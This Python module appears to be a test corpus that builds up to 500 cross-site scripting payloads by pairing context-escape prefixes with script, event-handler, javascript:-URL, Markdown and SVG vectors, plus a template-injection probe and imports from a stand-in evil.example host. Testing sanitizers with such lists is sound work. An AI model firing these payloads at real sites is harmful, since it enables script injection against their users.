"""Texts that try to become script: every way out of a context, times every way to run."""

from itertools import islice, product

_OUT = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</option></select>", '"', "'"),
    *("`", "]]>", "&quot;>", "%22%3E", "\\x22>", "{{", "{%"),
)
_RUN = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](x onerror=alert(1))",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<style>@import'//evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "7*7}}{{cycler.__init__.__globals__}}",
)
PAYLOADS = tuple(islice((out + run for run, out in product(_RUN, _OUT)), 500))
